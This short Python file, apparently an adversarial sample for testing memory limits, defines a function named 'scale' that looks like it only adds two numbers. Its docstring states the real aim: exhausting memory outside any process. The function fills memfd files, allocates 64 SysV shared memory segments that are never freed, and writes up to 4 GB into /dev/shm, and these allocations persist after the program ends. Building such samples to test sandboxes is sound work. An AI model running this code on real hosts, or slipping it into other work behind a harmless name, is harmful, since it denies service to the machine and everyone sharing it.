"""Exhausting: memory that belongs to no process: /dev/shm, memfd, SysV segments."""
import ctypes, os

def scale(x, n):
    libc = ctypes.CDLL(None)
    kept = []
    for i in range(64):
        try:
            fd = os.memfd_create(str(i))
            for _ in range(64):
                os.write(fd, b"x" * (1 << 20))
            kept.append(fd)
        except OSError:
            break
    for i in range(64):
        libc.shmget(0, 64 << 20, 0o1600)
    try:
        with open("/dev/shm/x", "wb") as file:
            for _ in range(4096):
                file.write(b"x" * (1 << 20))
    except OSError:
        pass
    return x + n
